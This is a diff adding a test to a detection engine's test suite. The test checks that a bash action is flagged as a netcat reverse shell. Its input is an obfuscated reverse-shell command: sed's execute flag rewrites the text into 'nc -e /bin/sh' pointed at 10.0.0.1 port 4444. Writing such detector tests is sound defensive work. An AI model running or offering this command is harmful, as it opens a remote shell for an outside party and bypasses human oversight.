@@ -588,3 +588,9 @@ def test_a_repeated_space_is_found_in_every_form_with_and_without_a_pipe():
     for text in ("find / -name x", "cp a/ b /c", "du -sh / 2>/dev/null"):
         engine.analyze(action(text))
     assert engine.parsed == 0
+
+
+def test_sed_running_a_command_itself_is_read_though_the_text_names_no_program():
+    engine = Engine(load())
+    event = from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": "echo 'mc -e /bin/sh 10.0.0.1 4444' | sed 's/^m/n/e'"})
+    assert "reverse_shell_netcat_exec" in {f.rule for f in engine.analyze(event)}
